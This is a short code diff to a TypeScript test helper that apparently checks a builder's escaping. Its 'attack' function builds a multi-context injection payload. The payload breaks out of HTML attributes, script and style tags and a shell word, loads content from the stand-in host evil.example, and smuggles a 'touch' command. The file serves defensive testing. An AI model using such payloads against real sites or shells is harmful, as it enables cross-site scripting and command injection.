@@ -19,7 +19,7 @@ const secret = 'a-file-of-the-builder'
 
 /** Breaks out of an attribute, an element, a script, a style and a shell word, and calls home. */
 const attack = (name: string) =>
-  `${name}"'></script></style><img src="https://evil.example/${name}" onerror="window.broken='${name}'"><script>window.broken='${name}'</script>;url(https://evil.example/css)'; touch /tmp/x #`
+  `${name}"'></script></style><img src="https://evil.example/${name}" onerror="window.broken='${name}'"><script>window.broken='${name}'</script>;url(https://evil.example/css)'; touch x #`
 
 /** Every text of a value as an attack, in names of fields too. */
 function poisoned(value: unknown, name: string): unknown {
